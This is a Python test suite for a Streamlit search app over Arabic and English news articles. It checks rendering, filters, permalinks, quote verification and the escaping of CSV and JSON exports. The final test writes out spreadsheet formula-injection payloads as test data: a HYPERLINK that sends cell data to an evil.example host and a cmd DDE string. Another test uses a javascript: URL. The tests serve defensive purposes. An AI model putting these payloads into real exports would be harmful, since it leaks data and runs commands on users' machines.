"""The Streamlit page through ``streamlit.testing.v1.AppTest``, on the real test index; and its HTML and exports."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from indexer.records import Hit, PassageHit, Span
from search_app import export, views
from search_app.quotes import QuoteCheck, QuoteMatch, WordDiff

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "search_app" / "app.py")
TIMEOUT = 120  # the first run imports sentence-transformers and loads the encoder
SEED_SENTENCE = (
    "وقال القلاف خلال مشاركته في ندوة في الرياض، أن الاتجار بالأشخاص يعد من أخطر الموضوعات التي تمس الإنسانية"
)
# The same sentence re-spelled: diacritics, ى for final ي, ه for ة, bare alef for hamzated alef.
RESPELLED = "وَقالَ القلاف خلال مشاركته فى ندوه فى الرياض، ان الاتجار بالاشخاص يعد من اخطر الموضوعات التى تمس الانسانيه"


@pytest.fixture
def app(built_index, monkeypatch) -> AppTest:
    monkeypatch.setenv("SAHAFA_INDEX", str(built_index))
    return AppTest.from_file(APP, default_timeout=TIMEOUT)


def cards(at: AppTest) -> list[str]:
    return [m.value for m in at.markdown if m.value.startswith('<div class="sahafa-card-title')]


def outlets(at: AppTest) -> list[str]:
    return [re.search(r'sahafa-meta"><span[^>]*>[^<]*</span><span>([^<]*)</span>', c).group(1) for c in cards(at)]


def dates(at: AppTest) -> list[str]:
    return [re.search(r"<span>(\d{4}-\d\d-\d\d|undated)</span>", c).group(1) for c in cards(at)]


def test_a_query_renders_results_with_marks(app):
    app.run()
    assert not app.exception
    assert "Type a query" in app.info[0].value
    app.text_input(key="q").input("الاتجار بالأشخاص").run()
    assert not app.exception and not app.error
    found = cards(app)
    assert found and '<mark class="sahafa-term">' in found[0]
    assert 'class="sahafa-snippet sahafa-rtl"' in found[0] and 'dir="auto"' in found[0]
    assert any(
        re.fullmatch(r"(Top \d+ matching articles|\d+ articles? matched) · \d+\.\d\d s", c.value) for c in app.caption
    )
    assert [b.label for b in app.button if b.label == "Open article"]

    app.button(key="open-000_9ff4965ff1aa788a").click().run()
    assert app.query_params["article"] == "000_9ff4965ff1aa788a"
    article = next(m.value for m in app.markdown if m.value.startswith('<div class="sahafa-article"'))
    assert f'id="{views.PASSAGE_ANCHOR}"' in article and '<mark class="sahafa-term">' in article
    assert not cards(app)
    app.button[0].click().run()  # back to the results
    assert "article" not in app.query_params and cards(app)


def test_filters_narrow_the_results(app):
    app.query_params["q"] = "trade talks"
    app.run()
    everything = cards(app)
    assert len(set(outlets(app))) > 1
    app.selectbox(key="lang").select("English").run()
    english = cards(app)
    assert english and len(english) < len(everything)
    assert all("sahafa-badge-en" in c for c in english)
    app.multiselect(key="outlet").select("Reuters").run()
    assert set(outlets(app)) == {"Reuters"}
    app.radio(key="sort").set_value("newest").run()
    assert dates(app) == sorted(dates(app), reverse=True)

    app.radio(key="mode").set_value("exact phrase")
    app.text_input(key="q").input("zzqx unheard-of words").run()
    assert not cards(app) and "No article matched" in app.warning[0].value


def test_a_permalink_restores_the_page(app):
    for key, value in {"q": "oil prices", "mode": "semantic", "lang": "English", "outlet": ["Reuters"],
                       "from": "1987-03-01", "sort": "newest"}.items():  # fmt: skip
        app.query_params[key] = value
    app.run()
    assert not app.exception
    assert app.text_input(key="q").value == "oil prices"
    assert app.radio(key="mode").value == "semantic"
    assert app.selectbox(key="lang").value == "English"
    assert app.multiselect(key="outlet").value == ["Reuters"]
    assert str(app.date_input(key="from").value) == "1987-03-01"
    assert app.radio(key="sort").value == "newest"
    assert cards(app) and set(outlets(app)) == {"Reuters"}
    assert dates(app) == sorted(dates(app), reverse=True)


def test_an_article_permalink_opens_the_article(app):
    app.query_params["article"] = "003_4b7db5c7572d20fb"
    app.run()
    article = next(m.value for m in app.markdown if m.value.startswith('<div class="sahafa-article"'))
    assert "شهدت الكويت" in article and 'class="sahafa-article-title sahafa-rtl"' in article


@pytest.mark.parametrize(("quote", "verdict"), [(SEED_SENTENCE, "verbatim"), (RESPELLED, "normalised")])
def test_the_quote_page_gives_the_verdict(app, quote, verdict):
    app.query_params["page"] = "quote"
    app.run()
    assert app.radio(key="page").value == "quote"
    app.text_area(key="quote").input(quote).run()
    assert not app.exception and not app.error
    banner = next(m.value for m in app.markdown if m.value.startswith('<div class="sahafa-verdict'))
    assert f'<span class="sahafa-verdict-name">{verdict}</span>' in banner
    sources = cards(app)
    assert sources and '<mark class="sahafa-sentence">' in sources[0] and "sahafa-rtl" in sources[0]


def test_a_missing_index_is_a_clear_message(monkeypatch, tmp_path):
    monkeypatch.setenv("SAHAFA_INDEX", str(tmp_path / "nothing"))
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception
    assert at.error[0].value.startswith(f"no Sahafa index at {tmp_path / 'nothing'}")


def test_an_empty_index_says_so(monkeypatch, tmp_path, built_index):
    from indexer.config import read_config
    from indexer.index import IndexDir

    IndexDir.create(tmp_path / "empty", read_config(built_index)).close()
    monkeypatch.setenv("SAHAFA_INDEX", str(tmp_path / "empty"))
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception
    assert "is empty" in at.info[0].value


# --- the HTML and the exports, without a page ---------------------------------------------------


def hit(**changes) -> Hit:
    text = 'Oil <b>rose</b> & "fell". النفط ارتفع اليوم.'
    fields = dict(
        article_id="a1",
        title="Oil &#8220;jumps&#8221;",
        source="Reuters",
        date="2018-08-09T15:06:32+00:00",
        lang="en",
        url="https://example.com/a?x=1&y=2",
        text=text,
        score=0.91234,
        passages=(PassageHit(1, 0, len(text), 0.9, (Span(0, 3, "term"), Span(4, 15, "sentence"))),),
    )
    return Hit(**{**fields, **changes})


def test_cards_escape_article_text_before_marking():
    card = views.result_card(hit(), 1)
    assert "<b>" not in card and "&lt;b&gt;rose&lt;/b&gt;" in card
    assert '<mark class="sahafa-term">Oil</mark>' in card and '<mark class="sahafa-sentence">' in card
    assert 'href="https://example.com/a?x=1&amp;y=2"' in card and "\n" not in card
    assert "Oil “jumps”" in card and "sahafa-ltr" in card
    assert "sahafa-rtl" in views.result_card(hit(lang="ar"), 1)
    hostile = views.result_card(hit(url="javascript:alert(1)"), 1)
    assert "href=" not in hostile and "javascript:alert(1)" in hostile


def test_word_diff_marks_each_change():
    diff = (WordDiff("equal", "قال", "قال"), WordDiff("replace", "موتمر", "ندوة"), WordDiff("missing", "امس", ""),
            WordDiff("extra", "", "<اليوم>"))  # fmt: skip
    out = views.diff_html(diff)
    assert out.startswith("قال ")
    assert '<del class="sahafa-del">موتمر</del> <ins class="sahafa-ins">ندوة</ins>' in out
    assert '<del class="sahafa-missing"' in out and "&lt;اليوم&gt;</ins>" in out
    match = QuoteMatch("close", "a1", "t", None, None, None, "ar", 0, 3, "قال", 0.75, diff)
    page = views.verdict_html(QuoteCheck("q", "close", (match,))) + views.quote_match_html(match, "قال ندوة")
    assert "Found in 1 article." in page and "Differences, word by word" in page


def test_exports_carry_a_citation_per_row():
    hits = [hit(), hit(article_id="a2", source=None, date=None, url=None, title="بلا مصدر")]
    rows = list(csv.DictReader(io.StringIO(export.to_csv(hits).decode("utf-8-sig"))))
    assert rows[0]["citation"] == "Reuters, 2018-08-09, “Oil “jumps””, https://example.com/a?x=1&y=2"
    assert rows[1]["citation"] == "“بلا مصدر”" and rows[1]["rank"] == "2"
    document = json.loads(export.to_json(hits, query="oil", settings={"mode": "hybrid"}))
    assert document["query"] == "oil" and document["results"][0]["citation"] == rows[0]["citation"]
    assert document["results"][0]["passage"].startswith("Oil <b>rose</b>")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_inert(start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    hits = [hit(title=payload, source=payload, url=f"{start}cmd|' /C calc'!A0", article_id=f"{start}1+1")]
    row = next(csv.DictReader(io.StringIO(export.to_csv(hits).decode("utf-8-sig"), newline="")))
    for name in ("outlet", "url", "article_id"):
        assert row[name] == "'" + (payload if name == "outlet" else hits[0].url if name == "url" else f"{start}1+1")
    if start.strip():  # titles and citations are shown on one line: leading whitespace is gone there anyway
        assert row["title"] == "'" + payload and row["citation"].startswith("'")
    assert row["rank"] == "1" and not row["score"].startswith("'")  # numbers stay numbers
